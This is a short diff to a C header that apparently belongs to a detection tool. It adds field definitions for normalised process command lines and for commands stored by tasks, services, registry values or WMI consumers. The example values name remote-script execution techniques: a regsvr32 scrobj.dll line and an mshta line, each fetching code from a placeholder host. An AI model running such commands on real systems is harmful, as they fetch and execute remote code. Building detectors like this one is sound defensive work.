@@ -61,6 +61,11 @@
 
 /* X(enumerator, name, what it says, example) */
 #define SQ_DERIVED(X) \
+	SQ_DERIVED_PROCESS(X) \
+	SQ_DERIVED_STORED(X)
+
+/* Those that the start of a process may have. */
+#define SQ_DERIVED_PROCESS(X) \
 	X(LINE, "squibly.command_line", \
 	  "CommandLine folded: lower case, quotes, carets and hidden characters resolved, one blank between tokens", \
 	  "regsvr32 /s /i:http://h/a.sct scrobj.dll") \
@@ -157,6 +162,12 @@
 	X(RD_ARGUMENT, "squibly.rundll32.argument", \
 	  "What rundll32 hands to that function, folded", \
 	  "desk.cpl")
+
+/* Those of an event that holds a command for later alone. */
+#define SQ_DERIVED_STORED(X) \
+	X(STORED_COMMAND, "squibly.stored.command", \
+	  "Each command that a task, service, registry value or WMI consumer holds for later, folded, without what shells take away", \
+	  "mshta http://h/a.hta")
 /* clang-format on */
 
 enum sq_field {
